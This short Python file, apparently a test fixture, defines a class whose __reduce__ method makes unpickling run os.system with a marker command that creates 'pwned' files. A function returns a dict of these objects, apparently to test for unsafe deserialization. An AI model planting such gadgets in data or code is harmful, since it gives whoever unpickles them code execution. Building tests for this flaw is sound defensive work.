"""Returns an object that runs a command where it is unpickled."""
# 1.3 fail value.entry

import os


class Reduced:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned; touch pwned",)


def facts(x):
    return {"square": Reduced(), "half": Reduced()}
